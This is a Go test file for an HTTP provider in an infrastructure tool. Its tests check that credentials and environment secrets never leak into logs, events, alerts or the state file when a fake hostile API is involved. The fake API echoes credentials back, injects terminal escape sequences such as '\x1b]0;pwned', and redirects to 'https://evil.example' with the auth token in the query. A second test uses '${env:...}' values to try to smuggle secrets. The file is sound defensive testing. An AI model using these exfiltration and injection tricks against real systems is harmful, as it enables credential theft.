package httpprovider

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/convergehq/converge/alert"
	"github.com/convergehq/converge/engine"
	"github.com/convergehq/converge/manifest"
	"github.com/convergehq/converge/provider"
	"github.com/convergehq/converge/secret"
	"github.com/convergehq/converge/store"
	"github.com/convergehq/converge/store/memory"
	"github.com/convergehq/converge/store/sqlite"
)

// loadManifest writes yaml to a manifest file and loads it with reg.
func loadManifest(t *testing.T, reg *provider.Registry, yaml string) *manifest.Revision {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "m.yaml"), []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	rv, err := manifest.Load([]string{dir}, reg)
	if err != nil {
		t.Fatalf("load: %v", err)
	}
	return rv
}

// applyWith converges rv with an engine over st.
func applyWith(t *testing.T, reg *provider.Registry, st store.Store, rv *manifest.Revision, opts engine.Options) engine.Report {
	t.Helper()
	if opts.Logger == nil {
		opts.Logger = slog.New(slog.DiscardHandler)
	}
	opts.Workers, opts.BackoffBase, opts.BackoffMax, opts.ReadyPoll = 4, 5*time.Millisecond, 20*time.Millisecond, 10*time.Millisecond
	e := engine.New(reg, st, opts)
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	if err := e.Load(ctx); err != nil {
		t.Fatal(err)
	}
	rep, err := e.Apply(ctx, rv)
	if err != nil {
		t.Fatalf("apply: %v (report %+v)", err, rep)
	}
	return rep
}

// TestEnvExpandsOnlyWhatTheManifestWrote: a value another resource's API
// returned is never expanded from converge's environment, even when it
// reads ${env:NAME}, and neither is a manifest's escaped $${env:NAME}; the
// manifest's own ${env:NAME} is.
func TestEnvExpandsOnlyWhatTheManifestWrote(t *testing.T) {
	const secret = "aws-secret-Zk29xQ"
	t.Setenv("CONVERGE_TEST_SECRET", secret)
	t.Setenv("CONVERGE_TEST_TOKEN", "live-token-1234")

	// The evil API names its object after the environment variable.
	evil := newFakeAPI(t, func(f *fakeAPI) {
		f.intercept = func(w http.ResponseWriter, r *http.Request, n int) bool {
			reply(w, http.StatusOK, map[string]any{"id": "e-1", "title": "evil", "name": "${env:CONVERGE_TEST_SECRET}"})
			return true
		}
	})
	victim := newFakeAPI(t, nil)
	reg, err := provider.NewRegistry(New(WithGrace(0)))
	if err != nil {
		t.Fatal(err)
	}
	rv := loadManifest(t, reg, `
kind: http.Resource
metadata: {name: evil}
spec:
  url: `+evil.URL+`
  body: {title: evil}
---
kind: http.Resource
metadata: {name: victim}
spec:
  url: `+victim.URL+`
  body: {title: victim, upstream: "${http.Resource/evil.outputs.name}"}
  headers:
    X-From-Output: "${http.Resource/evil.outputs.name}"
    X-Inside: "id=${http.Resource/evil.outputs.name};v=1"
    X-Escaped: "$${env:CONVERGE_TEST_SECRET}"
    Authorization: "Bearer ${env:CONVERGE_TEST_TOKEN}"
`)
	rep := applyWith(t, reg, memory.New(), rv, engine.Options{})
	if !rep.OK() {
		t.Fatalf("apply: %+v", rep.Failures)
	}
	reqs := victim.seen()
	if len(reqs) == 0 {
		t.Fatal("the victim API got no request")
	}
	for _, r := range reqs {
		for k, vs := range r.Header {
			for _, v := range vs {
				if strings.Contains(v, secret) {
					t.Errorf("%s %s: header %s carries the secret: %q", r.Method, r.Path, k, v)
				}
			}
		}
		want := map[string]string{
			"X-From-Output": "${env:CONVERGE_TEST_SECRET}",
			"X-Inside":      "id=${env:CONVERGE_TEST_SECRET};v=1",
			"X-Escaped":     "${env:CONVERGE_TEST_SECRET}",
			"Authorization": "Bearer live-token-1234",
		}
		for k, w := range want {
			if got := r.Header.Get(k); got != w {
				t.Errorf("%s %s: %s = %q; want %q", r.Method, r.Path, k, got, w)
			}
		}
	}
	if got := victim.get("w-1")["upstream"]; got != "${env:CONVERGE_TEST_SECRET}" {
		t.Errorf("body.upstream = %q; want the output as it was", got)
	}
}

// TestHostileAPI: an API that echoes the credentials it is sent in its
// error bodies (as they are, inside a longer string, JSON-escaped,
// URL-encoded, with 4xx and 5xx answers, behind terminal escapes) and in
// the objects it returns gets none of them into converge's events, record
// messages, logs at debug level, alert payloads or the state file, and no
// terminal escape into any message; the state still gives the delete of a
// removed resource its headers.
func TestHostileAPI(t *testing.T) {
	const envSecret = `hostile"sec/ré-tok-2468`
	const literalKey = "literal-api-key-5678"
	t.Setenv("CONVERGE_TEST_HOSTILE", envSecret)
	var deletes []http.Header
	var mu sync.Mutex
	api := newFakeAPI(t, func(f *fakeAPI) {
		f.intercept = func(w http.ResponseWriter, r *http.Request, n int) bool {
			auth := r.Header.Get("Authorization") + " key=" + r.Header.Get("X-Api-Key")
			jsonAuth, _ := json.Marshal(auth)
			text := func(status int, body string) bool {
				w.Header().Set("Content-Type", "text/plain")
				w.WriteHeader(status)
				_, _ = w.Write([]byte(body))
				return true
			}
			switch {
			case strings.HasPrefix(r.URL.Path, "/json/"):
				reply(w, http.StatusUnauthorized, map[string]any{"error": "token " + auth + " is revoked"})
				return true
			case strings.HasPrefix(r.URL.Path, "/jsonesc/"):
				return text(http.StatusBadRequest, `invalid request {"auth":`+string(jsonAuth)+`,"why":"expired"}`)
			case strings.HasPrefix(r.URL.Path, "/ascii/"):
				return text(http.StatusServiceUnavailable, "upstream said "+strings.ReplaceAll(strings.ReplaceAll(string(jsonAuth), "é", `\u00e9`), `\"`, `\u0022`))
			case strings.HasPrefix(r.URL.Path, "/urlenc/"):
				return text(http.StatusForbidden, "login at https://idp.example/?token="+url.QueryEscape(auth)+"&next=/")
			case strings.HasPrefix(r.URL.Path, "/escape/"):
				return text(http.StatusBadRequest, "\x1b]0;pwned\x07\x1b[2J"+auth+"\r\x08\u202e")
			case strings.HasPrefix(r.URL.Path, "/redirect/"):
				w.Header().Set("Location", "https://evil.example/?a="+url.QueryEscape(auth))
				w.WriteHeader(http.StatusFound)
				return true
			case strings.HasPrefix(r.URL.Path, "/ok/"):
				r.URL.Path = strings.TrimPrefix(r.URL.Path, "/ok")
				if r.Method == http.MethodDelete {
					mu.Lock()
					deletes = append(deletes, r.Header.Clone())
					mu.Unlock()
				}
				if r.Method == http.MethodPost {
					// The object echoes the credentials back.
					reply(w, http.StatusCreated, map[string]any{"id": "w-1", "name": "ok", "seenAuth": auth})
					f.put("w-1", map[string]any{"name": "ok", "seenAuth": auth})
					return true
				}
				return false
			}
			return false
		}
	})
	base := strings.TrimSuffix(api.URL, collectionPath)
	var m strings.Builder
	for _, mode := range []string{"json", "jsonesc", "ascii", "urlenc", "escape", "redirect", "ok"} {
		fmt.Fprintf(&m, `---
kind: http.Resource
metadata: {name: %s}
spec:
  url: %s/%s%s
  body: {name: %s}
  headers: {Authorization: "Bearer ${env:CONVERGE_TEST_HOSTILE}", X-Api-Key: %s}
`, mode, base, mode, collectionPath, mode, literalKey)
	}
	reg, err := provider.NewRegistry(New(WithGrace(0)))
	if err != nil {
		t.Fatal(err)
	}
	rv := loadManifest(t, reg, m.String())

	var payloads []string
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		payloads = append(payloads, string(b))
		mu.Unlock()
	}))
	t.Cleanup(hook.Close)
	notifier := alert.New([]string{hook.URL}, alert.Options{Logger: slog.New(slog.DiscardHandler)})

	path := filepath.Join(t.TempDir(), "state.db")
	sealer, err := secret.StateSealer(path, true, nil)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	st, err := sqlite.Open(ctx, path)
	if err != nil {
		t.Fatal(err)
	}
	var logs lockedBuffer
	opts := engine.Options{
		Workers: 4, BackoffBase: 5 * time.Millisecond, BackoffMax: 20 * time.Millisecond, ReadyPoll: 10 * time.Millisecond,
		Logger: slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
		Alert:  notifier.Notify, Sealer: sealer,
	}
	e := engine.New(reg, st, opts)
	if err := e.Load(ctx); err != nil {
		t.Fatal(err)
	}
	actx, cancel := context.WithTimeout(ctx, 1500*time.Millisecond)
	rep, _ := e.Apply(actx, rv)
	cancel()
	if len(rep.Failures) != 6 {
		t.Fatalf("failures %+v; want the six hostile resources", rep.Failures)
	}
	closeCtx, cancel := context.WithTimeout(ctx, 5*time.Second)
	notifier.Close(closeCtx)
	cancel()

	// Every form of every credential.
	var leaks []string
	for _, s := range []string{envSecret, literalKey, "Bearer " + envSecret} {
		j, _ := json.Marshal(s)
		leaks = append(leaks, s, string(j[1:len(j)-1]), url.QueryEscape(s), url.PathEscape(s),
			strings.ReplaceAll(strings.ReplaceAll(string(j[1:len(j)-1]), "é", `\u00e9`), `\"`, `\u0022`))
	}
	check := func(where, text string) {
		t.Helper()
		for _, l := range leaks {
			if strings.Contains(text, l) {
				t.Errorf("%s holds %q:\n%s", where, l, text)
			}
		}
	}
	noEscape := func(where, text string) {
		t.Helper()
		for _, c := range []string{"\x1b", "\x07", "\r", "\x08", "\u202e"} {
			if strings.Contains(text, c) {
				t.Errorf("%s holds the control character %q:\n%q", where, c, text)
			}
		}
	}
	evs, err := st.ListEvents(ctx, store.EventFilter{})
	if err != nil || len(evs) == 0 {
		t.Fatalf("events: %d, %v", len(evs), err)
	}
	for _, ev := range evs {
		check("event "+ev.Resource+" "+string(ev.Reason), ev.Message)
		noEscape("event "+ev.Resource+" "+string(ev.Reason), ev.Message)
	}
	recs, err := st.ListRecords(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		msgs := r.Message + "\n" + r.LastError
		for _, c := range r.Conditions {
			msgs += "\n" + c.Message
		}
		check("record "+r.ID, msgs)
		noEscape("record "+r.ID, msgs)
	}
	for _, f := range rep.Failures {
		check("report "+f.ID, f.Message)
		noEscape("report "+f.ID, f.Message)
		if !strings.Contains(f.Message, "(sensitive)") {
			t.Errorf("report %s: %q; want the server's message with the credentials masked", f.ID, f.Message)
		}
	}
	check("logs", logs.String())
	noEscape("logs", logs.String())
	mu.Lock()
	if len(payloads) == 0 {
		t.Errorf("no alert was delivered")
	}
	for _, p := range payloads {
		check("alert", p)
	}
	mu.Unlock()
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}
	state := stateFileBytes(t, path)
	check("the state file", string(state))

	// A restart, then the resources leave the manifests: the delete of the
	// one that exists carries the headers it was applied with.
	st, err = sqlite.Open(ctx, path)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	e = engine.New(reg, st, engine.Options{Workers: 4, BackoffBase: 5 * time.Millisecond, BackoffMax: 20 * time.Millisecond,
		Logger: slog.New(slog.DiscardHandler), Sealer: sealer})
	if err := e.Load(ctx); err != nil {
		t.Fatal(err)
	}
	dctx, cancel := context.WithTimeout(ctx, 1500*time.Millisecond)
	defer cancel()
	_, _ = e.Apply(dctx, nil)
	mu.Lock()
	defer mu.Unlock()
	if len(deletes) != 1 || deletes[0].Get("Authorization") != "Bearer "+envSecret || deletes[0].Get("X-Api-Key") != literalKey {
		t.Errorf("deletes %v; want one, with the applied headers", deletes)
	}
	check("the state file after the destroy", string(stateFileBytes(t, path)))
}

// stateFileBytes is what strings(1) reads: the SQLite file and its WAL.
func stateFileBytes(t *testing.T, path string) []byte {
	t.Helper()
	var all []byte
	for _, p := range []string{path, path + "-wal", path + "-journal"} {
		b, err := os.ReadFile(p)
		if err != nil && !errors.Is(err, os.ErrNotExist) {
			t.Fatal(err)
		}
		all = append(all, b...)
	}
	return all
}

type lockedBuffer struct {
	mu sync.Mutex
	b  strings.Builder
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}
